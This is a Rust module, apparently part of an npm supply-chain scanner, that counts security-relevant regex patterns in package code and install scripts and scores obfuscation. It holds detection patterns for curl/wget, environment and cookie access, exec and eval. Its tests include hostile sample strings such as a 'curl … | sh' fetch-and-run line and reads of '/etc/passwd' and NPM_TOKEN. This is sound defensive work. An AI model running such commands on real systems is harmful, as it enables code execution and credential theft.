//! Regex-based counting of security-relevant textual patterns.
//!
//! A [`PatternSet`] is an immutable table mapping each category to one
//! compiled pattern. The same [`LexicalScanner`] runs over package source files
//! and over lifecycle-script command text, only the table differs.

use regex::Regex;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PatternCategory {
    FsRead,
    FsWrite,
    FsDelete,
    HttpRequest,
    Fetch,
    Socket,
    Exec,
    Spawn,
    Fork,
    Password,
    Cookie,
    EnvRead,
    Base64,
    Eval,
    Url,
    NetworkKeyword,
    FileOps,
    ShellExec,
}

impl PatternCategory {
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::FsRead => "fs_read",
            Self::FsWrite => "fs_write",
            Self::FsDelete => "fs_delete",
            Self::HttpRequest => "http_request",
            Self::Fetch => "fetch",
            Self::Socket => "socket",
            Self::Exec => "exec",
            Self::Spawn => "spawn",
            Self::Fork => "fork",
            Self::Password => "password",
            Self::Cookie => "cookie",
            Self::EnvRead => "env_read",
            Self::Base64 => "base64",
            Self::Eval => "eval",
            Self::Url => "url",
            Self::NetworkKeyword => "network_keyword",
            Self::FileOps => "file_ops",
            Self::ShellExec => "shell_exec",
        }
    }
}

/// A category label paired with its occurrence count
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct CategoryCount {
    pub category: PatternCategory,
    pub count: u64,
}

/// Per-category counts; categories never seen read as 0.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CategoryCounts(BTreeMap<PatternCategory, u64>);

impl CategoryCounts {
    pub fn get(&self, category: PatternCategory) -> u64 {
        self.0.get(&category).copied().unwrap_or(0)
    }

    pub fn add(&mut self, category: PatternCategory, n: u64) {
        if n == 0 {
            return;
        }
        *self.0.entry(category).or_insert(0) += n;
    }

    /// Sum another count set into this one
    pub fn merge(&mut self, other: &CategoryCounts) {
        for (cat, n) in &other.0 {
            self.add(*cat, *n);
        }
    }

    pub fn to_vec(&self) -> Vec<CategoryCount> {
        self.0
            .iter()
            .map(|(category, count)| CategoryCount {
                category: *category,
                count: *count,
            })
            .collect()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

#[derive(Debug, Clone)]
pub struct PatternSet {
    patterns: Vec<(PatternCategory, Regex)>,
}

impl PatternSet {
    /// Compile a table. A category may appear once; later duplicates are rejected.
    pub fn new(table: &[(PatternCategory, &str)]) -> Result<Self, regex::Error> {
        let mut patterns: Vec<(PatternCategory, Regex)> = Vec::with_capacity(table.len());
        for (category, pattern) in table {
            if patterns.iter().any(|(c, _)| c == category) {
                return Err(regex::Error::Syntax(format!(
                    "duplicate pattern for category {}",
                    category.as_str()
                )));
            }
            patterns.push((*category, Regex::new(pattern)?));
        }
        Ok(Self { patterns })
    }

    fn builtin(table: &[(PatternCategory, &str)]) -> Self {
        Self::new(table).expect("valid built-in pattern table")
    }

    /// Patterns applied to package source files
    pub fn source_defaults() -> Self {
        use PatternCategory::*;
        Self::builtin(&[
            (FsRead, r"fs\.readFile|readFileSync"),
            (FsWrite, r"fs\.writeFile|writeFileSync"),
            (FsDelete, r"fs\.unlink|fs\.rmdir|fs\.rm"),
            (HttpRequest, r"http\.request|https\.request"),
            (Fetch, r"fetch\s*\(|axios\.(?:get|post)"),
            (Socket, r"net\.Socket|net\.connect"),
            (Exec, r"exec\s*\(|execSync"),
            (Spawn, r"spawn\s*\(|spawnSync"),
            (Fork, r"child_process\.fork"),
            (Password, r"(?i)password|passwd"),
            (Cookie, r"document\.cookie"),
            (EnvRead, r"process\.env"),
            (Base64, r"[A-Za-z0-9+/]{20,}={0,2}"),
            (Eval, r"eval\s*\("),
        ])
    }

    /// Patterns applied to concatenated install-hook command text
    pub fn install_script_defaults() -> Self {
        use PatternCategory::*;
        Self::builtin(&[
            (Base64, r"[A-Za-z0-9+/]{20,}={0,2}"),
            (Url, r#"https?://[^\s"']+"#),
            (NetworkKeyword, r"(?i)curl|wget|fetch|http"),
            (EnvRead, r"process\.env"),
            (FileOps, r"fs\.|readFile|writeFile"),
            (ShellExec, r"exec|spawn|child_process"),
        ])
    }

    pub fn categories(&self) -> impl Iterator<Item = PatternCategory> + '_ {
        self.patterns.iter().map(|(c, _)| *c)
    }
}

/// Stateless scanner over a pattern table; safe to share between threads.
#[derive(Debug, Clone)]
pub struct LexicalScanner {
    patterns: PatternSet,
}

impl LexicalScanner {
    pub fn new(patterns: PatternSet) -> Self {
        Self { patterns }
    }

    /// Non-overlapping match count per category of the table
    pub fn scan(&self, text: &str) -> CategoryCounts {
        let mut counts = CategoryCounts::default();
        for (category, re) in &self.patterns.patterns {
            counts.add(*category, re.find_iter(text).count() as u64);
        }
        counts
    }

    pub fn patterns(&self) -> &PatternSet {
        &self.patterns
    }
}

fn is_line_break(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\x0b' | '\x0c' | '\x1c' | '\x1d' | '\x1e' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// Number of lines under universal line splitting: CRLF is one break, and a
/// trailing break does not start an empty last line.
pub fn line_count(text: &str) -> usize {
    let mut lines = 0;
    let mut open = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if is_line_break(c) {
            if c == '\r' && chars.peek() == Some(&'\n') {
                chars.next();
            }
            lines += 1;
            open = false;
        } else {
            open = true;
        }
    }
    if open {
        lines += 1;
    }
    lines
}

/// Few long lines: fewer than `max_lines` lines and more than `min_chars` characters
pub fn is_minified(text: &str, max_lines: usize, min_chars: usize) -> bool {
    line_count(text) < max_lines && text.chars().count() > min_chars
}

/// Composite obfuscation metric clamped to [0, 1].
pub fn obfuscation_score(minified_ratio: f64, base64_density: f64, eval_density: f64) -> f64 {
    let raw = 10.0 * (0.4 * minified_ratio + 0.3 * base64_density + 0.3 * eval_density);
    raw.clamp(0.0, 1.0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_source_patterns() {
        let scanner = LexicalScanner::new(PatternSet::source_defaults());
        let text = r#"
            const fs = require('fs');
            fs.readFileSync('/etc/passwd');
            fs.readFile('a', cb);
            fs.writeFileSync('b', data);
            require('child_process').execSync('id');
            spawn('sh', ['-c', 'x']);
            const token = process.env.NPM_TOKEN;
            const Password = 'x';
            fetch('http://example.com');
            eval(payload);
        "#;
        let c = scanner.scan(text);
        assert_eq!(c.get(PatternCategory::FsRead), 2);
        assert_eq!(c.get(PatternCategory::FsWrite), 1);
        assert_eq!(c.get(PatternCategory::Exec), 1);
        assert_eq!(c.get(PatternCategory::Spawn), 1);
        assert_eq!(c.get(PatternCategory::EnvRead), 1);
        // "passwd" in the path and "Password" identifier
        assert_eq!(c.get(PatternCategory::Password), 2);
        assert_eq!(c.get(PatternCategory::Fetch), 1);
        assert_eq!(c.get(PatternCategory::Eval), 1);
        assert_eq!(c.get(PatternCategory::Cookie), 0);
    }

    #[test]
    fn delete_alternatives_do_not_double_count() {
        let scanner = LexicalScanner::new(PatternSet::source_defaults());
        let c = scanner.scan("fs.rmdir(x); fs.rm(y); fs.unlink(z);");
        assert_eq!(c.get(PatternCategory::FsDelete), 3);
    }

    #[test]
    fn base64_tokens() {
        let scanner = LexicalScanner::new(PatternSet::source_defaults());
        let c = scanner.scan("short abc; long aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= done");
        assert_eq!(c.get(PatternCategory::Base64), 1);
    }

    #[test]
    fn install_script_table() {
        let scanner = LexicalScanner::new(PatternSet::install_script_defaults());
        let c = scanner.scan("curl http://example.com/x | sh");
        assert_eq!(c.get(PatternCategory::Url), 1);
        // "curl" and "http"
        assert_eq!(c.get(PatternCategory::NetworkKeyword), 2);
        assert_eq!(c.get(PatternCategory::ShellExec), 0);
        assert!(!scanner.patterns().categories().any(|c| c == PatternCategory::Cookie));
    }

    #[test]
    fn substituted_table() {
        let set = PatternSet::new(&[(PatternCategory::Eval, r"Function\(")]).unwrap();
        let c = LexicalScanner::new(set).scan("eval(a); new Function(b)");
        assert_eq!(c.get(PatternCategory::Eval), 1);
    }

    #[test]
    fn duplicate_category_rejected() {
        let r = PatternSet::new(&[(PatternCategory::Eval, "a"), (PatternCategory::Eval, "b")]);
        assert!(r.is_err());
    }

    #[test]
    fn merge_sums_counts() {
        let mut a = CategoryCounts::default();
        a.add(PatternCategory::Exec, 2);
        let mut b = CategoryCounts::default();
        b.add(PatternCategory::Exec, 3);
        b.add(PatternCategory::Fork, 1);
        a.merge(&b);
        assert_eq!(a.get(PatternCategory::Exec), 5);
        assert_eq!(a.get(PatternCategory::Fork), 1);
        assert_eq!(a.to_vec().len(), 2);
    }

    #[test]
    fn minified_heuristic() {
        let long_line = "x".repeat(600);
        assert!(is_minified(&long_line, 5, 500));
        assert!(!is_minified("short", 5, 500));
        let many_lines = "a\n".repeat(10) + &"y".repeat(600);
        assert!(!is_minified(&many_lines, 5, 500));
    }

    #[test]
    fn line_count_splits_on_every_separator() {
        assert_eq!(line_count(""), 0);
        assert_eq!(line_count("a"), 1);
        assert_eq!(line_count("a\n"), 1);
        assert_eq!(line_count("a\r\nb"), 2);
        assert_eq!(line_count("a\rb\rc"), 3);
        assert_eq!(line_count("a\u{2028}b\x0cc\u{85}d"), 4);
        assert_eq!(line_count("\n\n"), 2);
    }

    #[test]
    fn carriage_return_lines_are_not_minified() {
        let cr_only = "x".repeat(120) + "\r" + &"y".repeat(120) + "\r" + &"z".repeat(120) + "\r" + &"w".repeat(120)
            + "\r" + &"v".repeat(120);
        assert_eq!(line_count(&cr_only), 5);
        assert!(!is_minified(&cr_only, 5, 500));
    }

    #[test]
    fn obfuscation_score_is_clamped_and_monotonic() {
        assert_eq!(obfuscation_score(0.0, 0.0, 0.0), 0.0);
        assert_eq!(obfuscation_score(1.0, 5.0, 5.0), 1.0);
        let mut prev = 0.0;
        for i in 0..50 {
            let s = obfuscation_score(0.0, i as f64 * 0.01, 0.0);
            assert!(s >= prev);
            assert!((0.0..=1.0).contains(&s));
            prev = s;
        }
        let mut prev = 0.0;
        for i in 0..50 {
            let s = obfuscation_score(0.0, 0.0, i as f64 * 0.01);
            assert!(s >= prev);
            prev = s;
        }
    }
}
